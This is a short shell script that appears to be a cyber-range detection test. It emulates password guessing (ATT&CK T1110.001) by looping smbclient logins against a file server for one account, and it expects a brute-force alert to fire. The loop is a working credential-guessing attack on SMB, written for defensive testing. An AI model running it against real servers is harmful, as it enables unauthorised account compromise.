# SPDX-License-Identifier: Apache-2.0
# what: forty passwords for one account, the last is right
# technique: T1110.001
# from: ws1
# to: fs1
# account: alice
# outcome: success
# must: alert brute
. "$RANGE_HERE/item.sh"
for p in $(passwords 40); do
	smbclient -L //fs1 -U "CORP\\alice%$p" >/dev/null 2>&1 && exit 1
done
says ADMIN smbclient -L //fs1 -U "CORP\\alice%$USER_PASSWORD"
